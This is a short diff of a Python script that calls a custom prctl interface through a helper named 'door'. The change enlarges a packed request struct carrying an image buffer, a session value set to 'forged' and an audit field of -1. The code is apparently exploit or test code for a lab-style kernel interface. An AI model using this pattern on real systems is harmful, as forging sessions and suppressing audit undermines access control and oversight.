@@ -293,7 +293,7 @@ def door(op, data):
     return libc.prctl(0x52454d54, ctypes.c_ulong(op), b, 0, 0)
 def begin(image, size, session=b'forged', audit=-1):
     b = ctypes.create_string_buffer(image, max(len(image), 1))
-    raw = struct.pack('<IIQQii40sQQ', 88, 0, ctypes.addressof(b), size, audit, -1, session, 0, 0)
+    raw = struct.pack('<IIQQii40sQQQQ', 104, 0, ctypes.addressof(b), size, audit, -1, session, 0, 0, 0, 0)
     return door(17, raw)
 fd = libc.prctl(0x52454d54, ctypes.c_ulong(1), ctypes.c_ulong(1), 0, 0)
 image = os.pread(fd, 1 << 20, 0)
